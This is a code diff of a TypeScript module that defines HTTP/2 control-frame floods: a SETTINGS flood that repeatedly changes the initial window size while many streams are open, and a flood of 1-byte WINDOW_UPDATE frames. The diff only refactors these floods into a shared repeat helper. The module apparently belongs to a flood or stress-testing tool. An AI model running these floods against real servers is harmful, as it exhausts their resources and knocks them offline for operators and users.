@@ -1,7 +1,7 @@
 /** Floods of frames that cost the sender nothing and belong to no request. */
 
 import { requestBlock } from "../wire/field-block.ts";
-import { emptyPayload, Flag, FrameType, Setting } from "../wire/frames.ts";
+import { emptyPayload, Flag, type FrameBatch, FrameType, Setting } from "../wire/frames.ts";
 import { type Attack, repeat } from "./attack.ts";
 
 const framesAPiece = 3000;
@@ -9,6 +9,11 @@ const ping = Buffer.alloc(8, 7);
 const goaway = Buffer.alloc(8);
 const priority = Buffer.from([0, 0, 0, 0, 15]);
 const ignored = requestBlock("Ignore");
+/** One SETTINGS frame that changes the initial window ten times. */
+const walk = Array.from(
+  { length: 10 },
+  (_, at) => [Setting.INITIAL_WINDOW_SIZE, 60_000 + at] as const,
+);
 /** Streams that are open while the initial window is changed. */
 const walkedStreams = 1000;
 
@@ -44,16 +49,7 @@ export const controlFloods: readonly Attack[] = [
           batch.headers(peer.openStream(), ignored, Flag.END_HEADERS);
         }
       },
-      write(batch) {
-        for (let index = 0; index < 300; index++) {
-          batch.settings(
-            ...Array.from(
-              { length: 10 },
-              (_, at) => [Setting.INITIAL_WINDOW_SIZE, 60_000 + at] as const,
-            ),
-          );
-        }
-      },
+      ...repeat((batch) => batch.settings(...walk), 300),
     }),
   },
   {
@@ -66,14 +62,13 @@ export const controlFloods: readonly Attack[] = [
     sends: "WINDOW_UPDATE of 1 on the connection and on an open stream",
     create: (peer) => {
       const streamId = peer.openStream();
+      const updates = (batch: FrameBatch) => {
+        batch.word(FrameType.WINDOW_UPDATE, 0, 1);
+        batch.word(FrameType.WINDOW_UPDATE, streamId, 1);
+      };
       return {
         begin: (batch) => batch.headers(streamId, ignored, Flag.END_HEADERS),
-        write(batch) {
-          for (let index = 0; index < framesAPiece / 2; index++) {
-            batch.word(FrameType.WINDOW_UPDATE, 0, 1);
-            batch.word(FrameType.WINDOW_UPDATE, streamId, 1);
-          }
-        },
+        ...repeat(updates, framesAPiece / 2),
       };
     },
   },
